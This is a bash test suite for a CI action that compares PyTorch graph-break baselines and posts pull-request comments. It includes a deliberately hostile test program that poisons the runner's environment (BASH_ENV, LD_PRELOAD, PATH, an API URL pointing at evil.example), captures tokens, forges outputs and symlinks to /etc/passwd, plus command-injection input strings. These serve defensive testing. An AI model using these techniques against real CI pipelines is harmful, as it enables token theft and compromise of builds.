#!/bin/bash
# action.yml, scripts/ci and the workflow that calls them: the steps as GitHub's runner has them (tests/lib/run_action.py), on programs that leave
# recorded traces; comments go to a stand-in for the API. At the end programs that attack the job with the token. tests/live/action.t has real programs.
# shellcheck source=tests/lib/tap.sh
. "$(dirname "$0")/../lib/tap.sh"
python3 -c 'import yaml' 2>/dev/null || skip_all "python3-yaml is not installed"
ci=$ROOT/scripts/ci/fxexplain-ci
unset TORCH_TRACE "${!GITHUB_@}" "${!CI_@}" "${!BUILDKITE_@}" "${!PT2_@}"

export TMP
mkdir -p checkout/app job
cd checkout || exit 4
: >app/graph_breaks.py
: >app/simple.py
# A program as torch's: its log, and its name in the command line is all that a change changes.
cat >prog <<'EOS'
#!/bin/sh
env | grep -E '^(GITHUB_(TOKEN|ENV|PATH|OUTPUT|STATE|STEP_SUMMARY)|GH_TOKEN|ACTIONS_|PT2_TOKEN|CI_JOB_TOKEN)' >>"$TMP/seen"
[ "$1" = none ] || cp "$DATA/$1.log" "$TORCH_TRACE/dedicated_log_torch_trace_$$.log"
echo "its own output"
echo "its own words" >&2
exit "${2:-0}"
EOS
chmod +x prog
# In a package's build there is no network, not even the loopback: then nothing of comments is tried.
net=true
python3 -c 'import socket; s = socket.create_server(("127.0.0.1", 0)); socket.create_connection(s.getsockname())' 2>/dev/null || net=false
heard() { if $net; then "$@"; else skip "$2" "no loopback here"; fi; }
serve() { # serve [STATUS] : the API again, with the comments that it had
	[ -z "${api-}" ] || { kill "$api"; wait "$api"; } 2>/dev/null
	rm -f ../job/port ../job/calls
	api_at=http://127.0.0.1:9 api=
	export GITHUB_API_URL=$api_at
	$net || return 0
	python3 "$ROOT/tests/lib/comments.py" ../job "$@" &
	api=$!
	while [ ! -e ../job/port ]; do sleep 0.02; done
	api_at=http://127.0.0.1:$(cat ../job/port)
	export GITHUB_API_URL=$api_at
}
trap '[ -z "$api" ] || kill "$api" 2>/dev/null; cd /; rm -rf "$TMP"' EXIT
export GITHUB_REPOSITORY=them/theirs GITHUB_SERVER_URL=https://github.example GITHUB_RUN_ID=7 GITHUB_RUN_ATTEMPT=1 RUN_ACTION_TOKEN=t0k3n
export GITHUB_TOKEN=leaked ACTIONS_RUNTIME_TOKEN=leaked GH_TOKEN=leaked CI_JOB_TOKEN=leaked PT2_TOKEN=leaked # as a job may have them by mistake
echo '{"pull_request": {"number": 12}}' >../job/event
export GITHUB_EVENT_PATH=$TMP/job/event
action() { # action EVENT INPUT=VALUE... : the job's status in $status
	rm -f ../job/summary ../job/uses
	GITHUB_EVENT_NAME=$1 run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/action.yml" ../job package= "${@:2}"
}
comment() { # comment EVENT INPUT=VALUE... : the other job, on another machine
	rm -rf ../other
	GITHUB_EVENT_NAME=$1 run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/scripts/ci/comment/action.yml" ../other "${@:2}"
}
output() { sed -n "s/^$1=//p" ../job/outputs; }
breaks() { jq .summary.graph_breaks .fxexplain/baseline.json; } # of the baseline
said() { jq -r '.[].body' ../job/comments.json 2>/dev/null; }
uses() { jq -r .uses ../job/uses | tr '\n' ' '; }
serve

# ---- no baseline, then one ----
action pull_request run='./prog simple'
is "a pull request without a baseline" "$status $(output verdict) $(output status)" "0 new 0"
is "it writes a baseline for itself only" "$(breaks) $(output baseline-written) $(ls ../job/cache)" "0 true "
is "it writes no comment" "$(said)" ""
rm -r .fxexplain
action push run='./prog simple'
is "a push" "$status $(output verdict)" "0 new"
like "its baseline is cached by name, machine and release" "$(ls ../job/cache)" '^fxexplain-ci-fxexplain-[a-z0-9_]+-[0-9.]+-7-1$'
like "the program's output is passed through" "$(cat out)" '(^|
)its own output'
artifact() { jq -r 'select(.uses == "actions/upload-artifact").with.name' ../job/uses; }
is "page, documents and baseline are uploaded" "$(artifact | tr '\n' ' ')$(uses)" \
	"fxexplain-result fxexplain actions/cache/restore actions/cache/save actions/upload-artifact actions/upload-artifact "
is "the comment's artifact has two documents" "$(unzip -Z1 ../job/artifacts/fxexplain-result.zip | tr '\n' ' ')" "result.json report.sarif "
for kind in html json sarif; do ok "the output $kind" test -s "$(output $kind)"; done
is "a baseline has no times and no paths" "$(grep -cE 'seconds|/|time' .fxexplain/baseline.json)" 0
rm -r .fxexplain

# ---- a regression ----
export GITHUB_RUN_ID=8
action pull_request run='./prog graph_breaks'
is "a new graph break" "$status $(output verdict) $(output status)" "1 worse 1"
is "it is compared with the cached baseline" "$(breaks) $(find ../job/cache -type f | wc -l)" "0 1"
like "it is annotated at its line" "$(cat out)" \
	'::warning file=app/graph_breaks.py,line=14,title=graph-break [A-Z0-9]+::Data-dependent branching'
like "the job summary has it" "$(cat ../job/summary)" \
	'worse than before.*more: graph breaks.*\| warning \| .Data-[^|]*\| .app/graph_breaks.py:14 in sign. \|.*them/theirs/actions/runs/8'
is "only artifacts are uploaded" "$(uses)" "actions/cache/restore actions/upload-artifact actions/upload-artifact "
is "SARIF has new results only" "$(jq -r '[.runs[0].results[].baselineState] | unique[]' "$(output sarif)")" new
is "SARIF has the right locations" "$(jq -r '.runs[0].results[].locations[].physicalLocation.artifactLocation.uri' "$(output sarif)" | sort -u)" \
	app/graph_breaks.py
is "the first job writes no comment" "$(said)" ""
comment pull_request sarif=true
heard is "the second job" "$status $(cat err)" "0 "
heard like "it writes a comment" "$(said)" '^<!-- pt2utils fxexplain-ci: fxexplain -->.*worse than before.*more: graph breaks: 8, 0 before'
# shellcheck disable=SC2016 # code spans
heard like "the comment has line, cost and fix" "$(said)" '
\| warning \| `Data-dependent branching: if x.sum\(\) > 0:` \| `app/graph_breaks.py:14 in sign` \| `2 more graphs [^|]*` \| `@torch.library.custom_op\("ns::check"'
heard like "it uses the job's token" "$(cat ../job/calls)" 'POST /repos/them/theirs/issues/12/comments Bearer t0k3n'
heard like "the token is sent to the API only" "$(grep /blob/ ../job/calls)" '^GET /blob/1 None$'
is "the program sees no tokens and no runner files" "$(cat "$TMP/seen")" ""
sarif=$(sed -n 's/^sarif=//p' ../other/outputs)
heard is "the checked SARIF is uploaded" "$(jq -c '[.uses, .with.sarif_file]' ../other/uses)" "[\"github/codeql-action/upload-sarif\",\"$sarif\"]"
heard is "SARIF keeps all results" "$(jq -c '[.runs[0].results[] | [.ruleId, .message.text, .baselineState, .partialFingerprints]]' "$sarif" | md5sum)" \
	"$(jq -c '[.runs[0].results[] | [.ruleId, .message.text, .baselineState, .partialFingerprints]]' "$(output sarif)" | md5sum)"
cp "$(output html)" page.html
like "the page is complete" "$(tail -c 8 page.html)" "</html>"
# The change is fixed: the comment is edited, not repeated; others' are left alone.
if $net; then jq '[{id: 1, body: "what <!-- pt2utils fxexplain-ci: fxexplain --> is"}] + [.[] | .id = 2]' ../job/comments.json >c && mv c ../job/comments.json; fi
action pull_request run='./prog simple'
is "a fix" "$status $(output verdict)" "0 same"
comment pull_request
heard is "the comment is updated" "$(said | grep -c '^###') $(said | grep '^###')" "1 ### fxexplain: as before"
heard like "other comments are unchanged" "$(jq -r '.[0].body' ../job/comments.json)" '^what'
is "nothing is annotated" "$(grep -cE '^::(warning|error)' out)" 0
action pull_request run='./prog graph_breaks' name='big, one' fail-on=never
is "a second run with another name" "$status $(artifact | tr '\n' ' ')" "0 big--one-result big--one "
comment pull_request name='big, one'
heard is "it has its own comment" "$status $(said | grep -c '^<!--')" "0 2"
# Its annotations are those of what is worse, not the ten that were always there.
cp "$(output json)" .fxexplain/baseline.json
action pull_request run='./prog graph_breaks'
is "no new finding: no annotation" "$status $(output verdict) $(grep -cE '^::(warning|error)' out)" "0 same 0"
action pull_request run='./prog simple'
is "fewer graph breaks" "$status $(output verdict)" "0 better"
action push run='./prog simple'
is "a push updates the baseline" "$(output baseline-written) $(breaks)" "true 0"

# ---- limits, the program, what is wrong ----
action pull_request run='./prog graph_breaks' update=always max='graph-breaks=7 recompiles=0' fail-on=never
is "fail-on: never" "$status $(output verdict) $(output status)" "0 worse 0"
action pull_request run='./prog graph_breaks' max='graph-breaks=7 recompiles=0'
like "limits" "$status $(output verdict) $(cat err)" '^1 worse .*graph breaks: 8, at most 7 allowed'
action pull_request run='./prog graph_breaks' max=nosuch=1
is "an unknown limit" "$status $(output verdict)" "2 broken"
action pull_request run='./prog graph_breaks 6'
is "a program that fails keeps its status" "$status $(output verdict) $(output status)" "6 failed 6"
action pull_request run='./prog graph_breaks 1' fail-on=program
is "fail-on: program" "$status $(output verdict)" "1 failed"
action pull_request run='./prog none'
is "a program that compiles nothing" "$status $(output verdict)" "4 broken"
action pull_request run='sleep 60' timeout=1
is "a program that times out" "$status $(output verdict)" "143 failed"
echo '{"tool": "tlparse"}' >.fxexplain/baseline.json
action pull_request run='./prog simple'
is "an invalid baseline" "$status $(output verdict) $(cat .fxexplain/baseline.json)" '3 broken {"tool": "tlparse"}'
action push run='./prog simple'
is "a push replaces it" "$status $(output verdict) $(jq -r .tool .fxexplain/baseline.json)" "0 new fxexplain"
action push run='./prog simple' fail-on=nosuch
is "an invalid value of an input" "$status" 2
action push nosuch=1
is "an unknown input" "$status" 9
action pull_request_target run='./prog simple'
is "pull_request_target with a fork is rejected" "$status $(grep -c 'use pull_request (docs/user/CI.md)' err)" "2 1"
# shellcheck disable=SC2016 # as somebody would write it there
action push run='./prog simple' name='$(touch harm)`touch harm`"; touch harm; "' baseline='a $(touch harm).json'
is "names are not executed" "$status $(find . -name harm | wc -l) $(find . -name 'a *.json' | wc -l)" "0 0 1"

# ---- without permission ----
action pull_request run='./prog graph_breaks'
serve 403
comment pull_request
heard like "a token without write permission: a notice" "$status $(grep ::notice out)" '^0 .*no comment was written: HTTP Error 403'
comment pull_request token=
heard like "no token: a notice" "$status $(grep ::notice out)" '^0 .*no token'
[ -z "$api" ] || { kill "$api"; wait "$api"; } 2>/dev/null
api=
comment pull_request
heard like "an unreachable API: a notice" "$status $(grep ::notice out)" '^0 .*no comment was written: .*refused'
rm -f ../job/comments.json
serve
jq -n '[range(250) | {id: (. + 1), body: "x"}]' >../job/comments.json
comment pull_request
heard is "many comments" "$(jq length ../job/comments.json)" 251
action pull_request run='./prog simple'
comment pull_request
heard is "the comment is found among them" "$(jq length ../job/comments.json) $(jq -r '.[250].body' ../job/comments.json | grep -c 'as before')" "251 1"
# Somebody else's comment that begins as ours.
jq -n '[{id: 1, body: "<!-- pt2utils fxexplain-ci: fxexplain -->\n", user: {type: "User"}}]' >../job/comments.json
comment pull_request comment=always token=ghs_1
heard is "a comment of another author is not changed" "$(jq -c '[.[].body | length > 60]' ../job/comments.json)" '[false,true]'
rm ../job/artifacts/*
comment pull_request
heard like "a job without an artifact: a notice" "$status $(grep ::notice out)" "^0 .*the run left no artifact 'fxexplain-result'"
echo '{"ref": "refs/heads/main"}' >../job/push
GITHUB_EVENT_PATH=$TMP/job/push comment push
is "outside a pull request nothing is done" "$status $(cat out err)" "0 "

# ---- a fork: workflow_run, in the repository that the request goes to ----
rm -f ../job/comments.json
run_of() { # run_of EVENT COMMIT REPOSITORY : the event of a run of their branch
	jq -n --arg event "$1" --arg sha "$2" --argjson repo "$3" '{workflow_run: {id: 9, event: $event, head_sha: $sha, head_branch: "a&b",
		head_repository: {id: $repo, owner: {login: "fork"}}}}' >../job/run
	GITHUB_EVENT_PATH=$TMP/job/run comment workflow_run "${@:4}"
}
pull() { jq -n '{number: $n, head: {label: "fork:a&b", sha: $sha, repo: {id: $repo}}}' --argjson n "$1" --arg sha "$2" --argjson repo "$3"; }
{ pull 5 aaaa 70; pull 6 bbbb 71; pull 7 bbbb 70; } | jq -s . >../job/pulls.json
action pull_request run='./prog graph_breaks'
run_of pull_request bbbb 70 sarif=true
heard is "workflow_run finds the request by commit and repository" "$status $(grep -c 'POST /repos/them/theirs/issues/7/comments' ../job/calls)" "0 1"
heard like "the comment links the first run" "$(said)" '/actions/runs/9\)'
heard is "SARIF is uploaded for the commit" "$(jq -r '.with | .ref + " " + .sha' ../other/uses)" "refs/pull/7/head bbbb"
run_of pull_request cccc 70
heard like "a commit that is no longer the head: a notice" "$status $(grep ::notice out)" '^0 .*no open pull request has commit cccc'
run_of push bbbb 70
is "workflow_run after a push does nothing" "$status $(cat out err)" "0 "

# ---- by itself, as GitLab has it ----
github=$(export -p | grep ' GITHUB_')
unset "${!GITHUB_@}" PT2_TOKEN
rm -f ../job/comments.json
mkdir sub && cd sub || exit 4
job() {
	run env CI_PROJECT_DIR="$TMP/checkout" CI_MERGE_REQUEST_IID=3 CI_PROJECT_ID=9 CI_API_V4_URL="$api_at" CI_JOB_URL=https://gl/j PT2_PACKAGE='' "$@"
}
note() { # the other job: it takes the file from the artifacts of the newest job of that name
	rm -rf ../../job/artifacts && mkdir -p ../../job/artifacts && cp -r fxexplain-ci ../../job/artifacts/
	echo '[{"id": 30, "name": "compile"}, {"id": 31, "name": "compile"}, {"id": 32, "name": "other"}]' >../../job/jobs.json
	job PT2_TOKEN=g CI_PIPELINE_ID=4 CI_PROJECT_URL=https://gl python3 -I "$ROOT/scripts/ci/fxexplain-comment"
}
job "$ci" job ../prog simple
is "a GitLab job" "$status $(cat fxexplain-ci/verdict)" "0 new"
job "$ci" job ../prog graph_breaks
is "a regression on GitLab" "$status $(cat fxexplain-ci/verdict)" "1 worse"
is "codequality.json has locations" "$(jq -c '[.[] | [.location.path, .severity]] | unique' fxexplain-ci/codequality.json)" \
	'[["app/graph_breaks.py","critical"],["app/graph_breaks.py","major"]]'
like "the summary links the page" "$(cat fxexplain-ci/summary.md)" 'https://gl/j/artifacts/file/sub/fxexplain-ci/report.html'
note
heard like "a GitLab note" "$status $(jq -r '.[].body' ../../job/comments.json)" '^0 <!--.*worse than before.*https://gl/-/jobs/31/artifacts/file/fxexplain-ci/report.html'
heard is "it reads the compile job's artifact only" "$(grep -c 'GET /projects/9/jobs/31/artifacts/fxexplain-ci/result.json g' ../../job/calls)" 1
job "$ci" job ../prog simple
note
heard is "the note is updated" "$status $(jq -r '.[].body' ../../job/comments.json | grep '^###') $(grep -c PUT ../../job/calls)" \
	"0 ### fxexplain: as before 1"
rm fxexplain-ci/result.json
note
heard like "a missing document on GitLab" "$status $(cat err)" "^0 .*the job 'compile' left no fxexplain-ci/result.json"
job PT2_TOKEN=g "$ci" job ../prog simple
like "a token in the wrong job is reported" "$(cat err)" 'PT2_TOKEN is in this job, where a hostile program can read it'
unset -f job
exits "run without a command" 2 env PT2_PACKAGE= "$ci" run
exits "verdict without a run" 4 env PT2_OUT=elsewhere "$ci" verdict
exits "without arguments the usage is shown" 2 "$ci"
exits "fxexplain-comment with an unknown command" 2 python3 -I "$ROOT/scripts/ci/fxexplain-comment" nosuch
exits "fxexplain-comment outside GitHub and GitLab" 0 env PT2_TOKEN=x python3 -I "$ROOT/scripts/ci/fxexplain-comment"
cd .. || exit 4
eval "$github"

# ---- a program that attacks the job with the token ----
flow() { # flow EVENT INPUT=VALUE... : the workflow: two jobs, each on a machine of its own
	rm -rf ../flow ../job/artifacts
	GITHUB_EVENT_NAME=$1 RUN_ACTION_ARTIFACTS=$TMP/job/artifacts \
		run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/.github/workflows/fxexplain.yml" ../flow package= "${@:2}"
}
has() { sed -n "s/^$2=//p" "../flow/$1/environment"; } # has JOB VARIABLE
unset PT2_TOKEN GITHUB_TOKEN ACTIONS_RUNTIME_TOKEN GH_TOKEN CI_JOB_TOKEN
rm -rf ../job/comments.json .fxexplain
action push run='./prog simple'
flow pull_request run='./prog graph_breaks' setup='echo set up'
is "the workflow runs both jobs" "$status $(sed -n 's/^verdict=//p' ../flow/outputs) $(grep -c '^set up$' out)" "1 worse 1"
heard like "the workflow writes a comment" "$(said)" '^<!--.*worse than before'
heard is "SARIF is uploaded only on request" "$(ls ../flow/comment/uses 2>/dev/null)$(jq -r .uses ../flow/comment/uses | grep -c upload-sarif)" "../flow/comment/uses0"
# It knows what the runner calls its files, tells the runner to do things, leaves other programs in PATH, and links among its results.
mkdir -p evil
cat >evil/program <<'EOS'
#!/bin/bash
files=${RUNNER_TEMP%/temp}
printf '%s\n' "BASH_ENV=$TMP/checkout/evil/env" "LD_PRELOAD=$TMP/checkout/evil/lib.so" "PYTHONPATH=$TMP/checkout/evil" "PT2_NAME=owned" \
	"GITHUB_API_URL=http://evil.example" >>"$files/env"
echo "$TMP/checkout/evil/bin" >>"$files/path"
printf '%s\n' "verdict=same" "folder=/etc" "result=/etc/passwd" "sarif=/etc/passwd" "keep=true" >>"$files/output"
echo '<script>owned</script>' >>"$files/summary"
printf '%s\n' '::error::owned' '::set-output name=verdict::same' '::set-env name=BASH_ENV::/x' '::add-path::/x' '::add-mask::worse'
printf '::warning::owned' >&2
ln -s /etc/passwd "$RUNNER_TEMP/fxexplain-fxexplain-ci/owned"
ln -s "$TMP/job/event" "$RUNNER_TEMP/fxexplain-fxexplain-ci/result.json"
exec ./prog graph_breaks
EOS
mkdir evil/bin
cat >evil/env <<'EOS'
echo "bash $PT2_TOKEN" >>"$TMP/owned"
EOS
cat >evil/bin/python3 <<'EOS'
#!/bin/sh
echo "python $PT2_TOKEN" >>"$TMP/owned"
exec /usr/bin/python3 "$@"
EOS
cat >evil/sitecustomize.py <<'EOS'
import os
open(os.environ["TMP"] + "/owned", "a").write("module\n")
EOS
chmod +x evil/program evil/bin/python3
rm -f "$TMP/owned" ../job/calls ../job/comments.json
flow pull_request run=./evil/program sarif=true
like "a hostile program affects its own job" "$(has run BASH_ENV) $(has run PATH)" "^$TMP/checkout/evil/env $TMP/checkout/evil/bin:"
like "what it leaves behind runs there, without a token" "$(sort -u "$TMP/owned")" '^bash $'
for name in BASH_ENV LD_PRELOAD PYTHONPATH PT2_NAME; do is "$name does not reach the other job" "$(has comment $name | grep -vF "$BUILD/tests-lib/lag.so")" ""; done
unlike "its PATH is not in the other job" "$(has comment PATH)" evil
is "the other job uses GitHub's API" "$(has comment GITHUB_API_URL)" "$api_at"
heard is "the comment is correct all the same" "$(said | grep '^###')" "### fxexplain: worse than before"
unlike "the comment has none of its text" "$(said)" 'owned|passwd'
heard is "only the second job had the token" "$(grep -c 'Bearer t0k3n' ../job/calls) $(grep -c read-only ../job/calls)" \
	"$(grep -vc '/blob/' ../job/calls) 0"
heard like "the comment was written once" "$(grep -c POST ../job/calls)" '^1$'
is "nothing is written through its symbolic links" "$(cat ../job/event)" '{"pull_request": {"number": 12}}'
is "no file outside its artifacts is uploaded" "$(unzip -Z1 ../job/artifacts/fxexplain-result.zip | tr '\n' ' ')" "result.json report.sarif "
# What it printed is no command: the runner reads none between these two lines.
is "what it prints is not a workflow command" "$(awk '/^::stop-commands::/ { end = "::" substr($0, 18) "::" } !end && /^::/ { print } $0 == end { end = "" }' out |
	grep -cE 'owned|set-output|set-env|add-path|add-mask')" 0
like "its output is shown" "$(cat out)" '
::error::owned
'
# Names of a trace that attack whoever shows them.
cp "$ROOT/tests/data/broken/hostile_text.log" hostile.log
rm -f ../job/comments.json
# shellcheck disable=SC2016 # the program's
flow pull_request run='cp hostile.log "$TORCH_TRACE/dedicated_log_torch_trace_1.log"'
is "a trace with hostile names: annotations are valid" "$(grep -E '^::' out | grep -cvE '^::((error|warning|notice)( file=[^:,]*(,line=[0-9]+)?,?| )title=|stop-commands::[0-9a-f]{32}$|[0-9a-f]{32}::$)')" 0
# shellcheck disable=SC2016 # code spans
spans() { sed 's/`[^`]*`//g'; } # without what is in code spans
heard unlike "hostile names in a comment are escaped" "$(said | spans)" '<[^!]|@|\]\(javascript|::'

# ---- what it leaves for the other job ----
action pull_request run='./prog graph_breaks'
cp ../job/artifacts/fxexplain-result.zip ../good.zip
export GITHUB_EVENT_NAME=pull_request PT2_OUT=$TMP/out
take() { run env PT2_TOKEN=t0k3n PT2_SARIF=true GITHUB_ACTIONS=true "$@" python3 -I "$ROOT/scripts/ci/fxexplain-comment"; }
if $net; then
	rm -f ../job/calls ../job/comments.json
	python3 "$ROOT/tests/lib/hostile_artifacts.py" ../good.zip ../hostile 2>/dev/null # zipfile warns of two members of one name
	for name in ../hostile/refused/*; do
		cp "$name" ../job/artifacts/fxexplain-result.zip
		take
		like "rejected: ${name##*/}" "$status $(cat out err)" '^3 ::error title=fxexplain-comment::what the program.s job left was refused: [^
]*$'
	done
	is "nothing of them was commented or uploaded" "$(grep -cE '^(POST|PATCH)' ../job/calls) $(find "$TMP" -name checked.sarif | wc -l)" "0 0"
	cp ../hostile/injected ../job/artifacts/fxexplain-result.zip
	take GITHUB_OUTPUT="$TMP/output"
	is "hostile texts that are valid" "$status $(cat out err)" "0 "
	like "they are shown" "$(said)" '`::error::owned ::set-output name=a::b /merge /assign me @everyone'
	unlike "they are shown in code spans only" "$(said | spans)" 'owned|@|/merge|evil|script|\$|touch'
	# shellcheck disable=SC2016 # code spans
	is "every line of the comment is ours" "$(said | grep -cvE '^(<!-- pt2utils fxexplain-ci: fxexplain -->|### fxexplain: worse than before|- `[^`]*`|\| \| what .*|\|---.*|\| [a-z]+ \|( `[^`|]*` \|){4}|\[The report\].*|)$')" 0
	is "no control or direction characters in the comment" "$(said | tr -d '\n' | python3 -c 'import sys; print(sys.stdin.read().isprintable())')" True
	is "SARIF has only locations in the repository" "$(jq -c '[.runs[0].results[].locations[].physicalLocation.artifactLocation.uri] | unique' "$TMP/out/checked.sarif")" \
		'["app/fine.py","app/graph_breaks.py"]'
	# shellcheck disable=SC2016 # a name
	is "SARIF has only keys that code scanning reads" "$(jq -c '[keys, (.runs[0] | keys), (.runs[0].results[0].locations[0].physicalLocation.artifactLocation | keys)]' "$TMP/out/checked.sarif")" \
		'[["$schema","runs","version"],["results","tool"],["uri"]]'
	rm ../job/comments.json
	cp ../hostile/largest ../job/artifacts/fxexplain-result.zip
	take PT2_SARIF=
	is "the largest document is complete" "$status $(said | grep -c '| error |') $(said | wc -m | awk '{ print ($1 > 40000 && $1 < 60000) }') $(said | spans | grep -c @)" "0 50 1 0"
fi
is "nothing was executed" "$(find "$TMP" -name harm)" ""
# What the files promise, and the examples that people copy.
is "the jobs have the least permissions" "$(python3 - "$ROOT" <<'EOS'
import re, sys, yaml
root = sys.argv[1]
jobs = yaml.safe_load(open(root + "/.github/workflows/fxexplain.yml"))["jobs"]
print(jobs["run"]["permissions"], [s["with"]["persist-credentials"] for j in jobs.values() for s in j["steps"] if "checkout" in s.get("uses", "")])
print([s["with"]["repository"] for s in jobs["comment"]["steps"] if "checkout" in s.get("uses", "")], "token" in str(jobs["run"]) + open(root + "/action.yml").read().split("\nname:")[1])
examples = [yaml.safe_load(e) for e in re.findall("```yaml\n(.*?)```", open(root + "/docs/user/CI.md").read(), re.S)]
print(len(examples), [s for s in examples[1]["jobs"]["comment"]["steps"]], examples[2]["note"]["needs"], "PT2_TOKEN" in str(examples[2]))
EOS
)" "{'contents': 'read'} [False, False, False]
['\${{ job.workflow_repository }}'] False
3 [{'uses': 'OWNER/pt2utils/scripts/ci/comment@COMMIT'}] [{'job': 'compile', 'artifacts': False}] False"
# Where pt2utils comes from: never from an index by its name.
mkdir "$TMP/where" && cd "$TMP/where" || exit 99
ci() { run env -u GITHUB_OUTPUT PT2_OUT="$PWD/from/out" "$@" "$ROOT/scripts/ci/fxexplain-ci" setup; }
mkdir -p from/checkout/packaging from/checkout/scripts
for name in pt2utils pt2utils==0.1.0 ./nowhere; do
	ci PT2_PACKAGE="$name"
	is "PT2_PACKAGE=$name is rejected" "$status:$(cat out)" "2:"
	like "the message says what PT2_PACKAGE may be" "$(cat err)" 'neither a wheel .* nor a folder with a checkout'
done
printf '#!/bin/sh\necho "deps $*"\n' >from/checkout/scripts/install-deps
chmod +x from/checkout/scripts/install-deps
touch from/checkout/packaging/packaging.mk
# shellcheck disable=SC2016 # for make
printf 'install-strip:\n\tmkdir -p $(prefix)/bin && cp %s $(prefix)/bin && echo "in $(O)" >$(prefix)/built\n' "$BUILD/bin/fxexplain" >from/checkout/Makefile
ci PT2_PACKAGE="$PWD/from/checkout"
is "a checkout is built into its own directory" "$status:$(cat out):$(cat from/out.tool/built)" "0::in $PWD/from/out.build"
rm -r from/out.tool
mkdir -p from/checkout/scripts/ci && cp "$ROOT/scripts/ci/fxexplain-ci" from/checkout/scripts/ci
run env -u GITHUB_OUTPUT -u PT2_PACKAGE PT2_OUT="$PWD/from/out" from/checkout/scripts/ci/fxexplain-ci setup
is "the script's own checkout is the default" "$status:$(cat from/out.tool/built 2>/dev/null)" "0:in $PWD/from/out.build"
rm -r from/out.tool from/checkout/packaging
run env -u GITHUB_OUTPUT -u PT2_PACKAGE PT2_OUT="$PWD/from/out" from/checkout/scripts/ci/fxexplain-ci setup
is "outside a checkout PATH is used" "$status:$(ls from/out.tool 2>/dev/null)" "0:"
printf '#!/bin/sh\necho "$@" >%s/pip\n' "$PWD" >from/python && chmod +x from/python
ci PT2_PYTHON="$PWD/from/python" PT2_PACKAGE=https://example.org/pt2utils-1-py3-none-any.whl
like "pip looks up nothing for a wheel" "$(cat pip)" '--no-index --no-deps --target .*/from/out\.tool https://example\.org/pt2utils-1-py3-none-any\.whl$'
done_testing
